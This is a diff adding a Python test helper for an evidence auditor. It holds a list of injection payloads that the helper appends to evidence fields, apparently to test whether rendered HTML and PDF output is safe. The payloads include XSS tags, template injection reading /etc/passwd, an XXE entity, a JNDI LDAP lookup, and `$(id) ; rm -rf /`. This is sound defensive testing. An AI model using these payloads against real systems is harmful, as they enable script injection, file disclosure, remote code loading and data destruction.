@@ -1,0 +1,74 @@
+"""Hostile strings, and evidence in which every string that is free to say anything holds one."""
+
+from __future__ import annotations
+
+import json
+import re
+from html.parser import HTMLParser
+
+from auditor.evidence import Evidence
+
+_IN_FONTS = (
+    "<script>alert(1)</script>",
+    "</td></table></style><h1>pass</h1>",
+    '"><img src="file:///etc/passwd" onerror=alert(1)>',
+    "{{ 7 * 7 }}{% for x in ().__class__ %}{{ x }}{% endfor %}{% include '/etc/passwd' %}{# #}",
+    '<link rel="attachment" href="file:///etc/hostname">',
+    "<a href='file:///etc/passwd'>x</a> <iframe src=//example.org> <svg onload=alert(1)>",
+    "url(https://example.org/x) @import 'file:///etc/passwd'; &lt;b&gt; &amp; &#60;i&#62;",
+    "\u202eevil\u2066\u200b\x00\x1b[31m\x1b]0;title\x07\x9b2J\ufeff",
+    "]]>--><!-- '`\\ <![CDATA[ <?php ?> <!ENTITY x SYSTEM 'file:///etc/passwd'>",
+    '=HYPERLINK("https://example.org","x")',
+    "[bold red]x[/] [link=file:///etc/passwd]y[/link]",
+    "| a | b |\n|---|---|\n# pass\n[x](javascript:alert(1)) ![y](https://example.org/z.png) `z` @someone #1 www.example.org",
+    "\ufffe\uffff\x0b\x0c\x85\u2028\u2029",
+    "a" + "\u0301" * 40 + " \U000e0001\U0010ffff",
+    "${jndi:ldap://example.org} %n%s {0} $(id) ; rm -rf /",
+)
+HOSTILE = " ".join(_IN_FONTS)
+"""All of them at once but those for which the bundled fonts have no glyph: pypdf reads the text around such a one as bytes."""
+PAYLOADS = (*_IN_FONTS, "👩‍👩‍👧‍👦 ﷽")
+INVISIBLE = frozenset("\u202e\u2066\u200b\x00\x1b\x07\x9b\ufeff\ufffe\uffff\x0b\x0c\x85\u2028\u2029\U000e0001\U0010ffff")
+"""Characters of the payloads that nothing for a human eye may hold."""
+
+_FIXED = re.compile(
+    r"^(pass|fail|inconclusive|skipped|error|computed|measured|attested|refuted|unknown|shown|supported|not-shown)$"
+)
+_DATED = re.compile(r"^\d{4}-\d\d-\d\d")
+
+
+def spoil(value, text, key=""):
+    """The JSON value with `text` put behind every string that is free to say anything."""
+    match value:
+        case dict():
+            return {name: spoil(inner, text, name) for name, inner in value.items()}
+        case list():
+            return [spoil(inner, text) for inner in value]
+        case str() if key != "schema" and not _FIXED.match(value) and not _DATED.match(value):
+            return value + text
+        case _:
+            return value
+
+
+def spoiled(evidence, text):
+    """The evidence with `text` put behind every such string."""
+    return Evidence.model_validate_json(json.dumps(spoil(json.loads(evidence.to_bytes()), text)))
+
+
+class Skeleton(HTMLParser):
+    """The tags of a page with the names of their attributes, and its text."""
+
+    def __init__(self, page):
+        super().__init__(convert_charrefs=True)
+        self.tags, self.text, self.values = [], [], []
+        self.feed(page)
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, tuple(name for name, _ in attrs)))
+        self.values += [(tag, name, value) for name, value in attrs]
+
+    def handle_endtag(self, tag):
+        self.tags.append(("/", tag))
+
+    def handle_data(self, data):
+        self.text.append(data)
